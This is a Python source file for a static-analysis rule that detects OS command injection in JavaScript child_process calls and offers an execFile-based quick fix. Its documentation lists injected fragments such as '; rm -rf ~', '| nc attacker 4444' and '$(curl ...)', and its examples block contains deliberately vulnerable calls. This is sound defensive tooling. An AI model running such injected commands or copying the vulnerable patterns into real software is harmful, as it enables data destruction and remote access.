"""Shell commands built from data: `child_process.exec`/`execSync`, `spawn(..., { shell: true })`.

`exec` and `execSync` hand their string to `/bin/sh`; so do `spawn`/`execFile` with the
`shell` option. Constant commands are clean; data flow sets confidence. Without a shell only a
tainted program name is reported: `execFile("convert", [file])` with a variable argument is
how commands should be run, and `spawn(variable)` of unknown origin is ordinary code.
"""

from __future__ import annotations

from tree_sitter import Node

from ..context import Match
from ..model import Category, Confidence, Edit, Fix, Report, Rule, Severity
from ._nodes import argument, arguments, is_true, property_value, unwrap
from ._sinks import taint_verdict

SHELL_CALLS = frozenset({"child_process.exec", "child_process.execSync"})
NO_SHELL_CALLS = frozenset(
    {"child_process.spawn", "child_process.spawnSync", "child_process.execFile", "child_process.execFileSync"}
)
_CONSEQUENCE = "the shell runs any command it contains"
_SANITIZERS = ("shell-quote.quote", "shell-escape")


def _options(call: Node) -> Node | None:
    """The options object of a spawn/execFile call (after the optional argv array)."""
    for arg in arguments(call)[1:]:
        if unwrap(arg) is not None and unwrap(arg).type == "object":  # type: ignore[union-attr]
            return arg
    return None


def runs_untrusted_command(match: Match) -> Report | None:
    name = match.ctx.qualified_name(match.node("fn")) or ""
    command = argument(match.target, 0)
    if name in SHELL_CALLS:
        return taint_verdict(
            match,
            command,
            f"a shell command (`{name}`)",
            environment=True,
            sanitizers=_SANITIZERS,
            consequence=_CONSEQUENCE,
        )
    options = _options(match.target)
    if is_true(property_value(options, "shell")):
        return taint_verdict(
            match,
            command,
            f"a shell command (`{name}` with `shell: true`)",
            environment=True,
            sanitizers=_SANITIZERS,
            consequence=_CONSEQUENCE,
        )
    return taint_verdict(
        match,
        command,
        f"the program name of `{name}`",
        local_input=False,
        report_unknown=False,
        consequence="the caller chooses which program runs",
    )


def use_exec_file(match: Match) -> Fix | None:
    """`exec(`convert ${file} out.png`)` -> `execFile("convert", [file, "out.png"])`."""
    name = match.ctx.qualified_name(match.node("fn")) or ""
    command = unwrap(argument(match.target, 0))
    callee = match.node("fn")
    if name not in SHELL_CALLS or command is None or command.type != "template_string" or callee is None:
        return None
    words = _argv(match, command)
    if words is None or len(words) < 2 or not words[0].startswith('"'):
        return None
    callee_name = callee.child_by_field_name("property") if callee.type == "member_expression" else callee
    assert callee_name is not None
    new_name = "execFileSync" if name.endswith("Sync") else "execFile"
    args = match.target.child_by_field_name("arguments")
    assert args is not None
    rest = arguments(match.target)[1:]
    tail = "".join(f", {match.ctx.text(a)}" for a in rest)
    edits = [
        Edit(callee_name.start_byte, callee_name.end_byte, new_name),
        Edit(args.start_byte, args.end_byte, f"({words[0]}, [{', '.join(words[1:])}]{tail})"),
    ]
    if callee.type == "identifier":
        edits.extend(_import_edit(match, match.ctx.text(callee), new_name))
    return Fix(
        title=f"Run the program with `{new_name}` and an argument array (no shell)", edits=tuple(edits), safe=False
    )


def _import_edit(match: Match, local: str, wanted: str) -> list[Edit]:
    """Add `wanted` next to the destructured or imported `local` name (`{ exec }` -> `{ exec, execFile }`)."""
    if wanted in match.ctx.names.bindings:
        return []
    assert match.ctx.tree is not None
    stack = [match.ctx.tree.root_node]
    while stack:
        node = stack.pop()
        if node.type in ("shorthand_property_identifier_pattern", "import_specifier") and match.ctx.text(node) == local:
            return [Edit(node.end_byte, node.end_byte, f", {wanted}")]
        if node.type in (
            "program",
            "lexical_declaration",
            "variable_declaration",
            "variable_declarator",
            "object_pattern",
            "import_statement",
            "import_clause",
            "named_imports",
        ):
            stack.extend(node.named_children)
    return []


def _argv(match: Match, template: Node) -> list[str] | None:
    """Split a template literal on spaces into argv items; None if a word mixes text and `${}`."""
    words: list[str] = []
    current: list[str] = []  # pieces of the word being read: '"text"' or an expression
    for part in template.named_children:
        if part.type == "template_substitution":
            current.append(match.ctx.text(part.named_children[0]) if part.named_children else "")
            continue
        text = match.ctx.text(part)
        if any(ch in text for ch in "|&;<>$`\\'\"*?(){}"):
            return None  # shell syntax: the command really needs a shell
        for index, chunk in enumerate(text.split(" ")):
            if index > 0 and current:
                words.append(_word(current))
                current = []
            if chunk:
                current.append(f'"{chunk}"')
    if current:
        words.append(_word(current))
    return words if all(w is not None for w in words) else None


def _word(pieces: list[str]) -> str:
    if len(pieces) == 1:
        return pieces[0]
    return "`" + "".join(p[1:-1] if p.startswith('"') else f"${{{p}}}" for p in pieces) + "`"


RULE = Rule(
    id="js-os-command-injection",
    title="OS command built from data (JavaScript)",
    category=Category.INJECTION,
    cwe=(78,),
    owasp=("A03:2021",),
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    languages=frozenset({"javascript", "typescript", "typescriptreact"}),
    calls=SHELL_CALLS | NO_SHELL_CALLS,
    where=runs_untrusted_command,
    fix=use_exec_file,
    fixable=True,
    aliases=("security/detect-child-process", "javascript.lang.security.detect-child-process.detect-child-process"),
    message="A shell command built from data runs whatever commands the data contains.",
    docs="""## Why is this bad?
`child_process.exec(cmd)` runs `/bin/sh -c cmd`. If part of `cmd` comes from a user,
`; rm -rf ~`, `| nc attacker 4444` or `$(curl ...)` in it are commands too. The same holds
for `spawn`/`execFile` with `{ shell: true }`. `execFile(program, [args])` passes each
argument to the program directly, with no shell to interpret them.

Confidence is high when request data or `process.argv` reaches the command; medium when a
piece has unknown origin or comes from `process.env`. Without a shell, only a tainted
program name is reported.

## Fix safety
The quick fix rewrites `exec(`prog ${a} lit`)` into `execFile("prog", [a, "lit"])` when the
template is a plain list of words. It is unsafe: without a shell, globbing, variables and
quoting in the command no longer apply, and the callback's arguments stay the same but
`execFile` does not search aliases or shell functions.
""",
    references=(
        "https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback",
        "https://cheatsheetseries.owasp.org/cheatsheets/Nodejs_Security_Cheat_Sheet.html",
    ),
    examples="""
const { exec, execFile, spawn } = require("node:child_process");
const cp = require("child_process");
app.post("/convert", (req, res) => {
  // ruleid: js-os-command-injection
  exec(`convert ${req.body.file} out.png`);
  // ruleid: js-os-command-injection
  cp.execSync("ls " + req.query.dir);
  // ruleid: js-os-command-injection
  spawn(req.query.cmd, { shell: true });
  // ruleid: js-os-command-injection
  spawn(req.query.tool, ["--help"]);
  // ok: js-os-command-injection
  execFile("convert", [req.body.file, "out.png"]);
  // ok: js-os-command-injection
  exec("git status");
  // ok: js-os-command-injection
  spawn("ls", [req.query.dir]);
});
function build(target) {
  // ruleid: js-os-command-injection
  exec("make " + target);
  // ok: js-os-command-injection
  spawn(target, ["--version"]);
}
""",
)
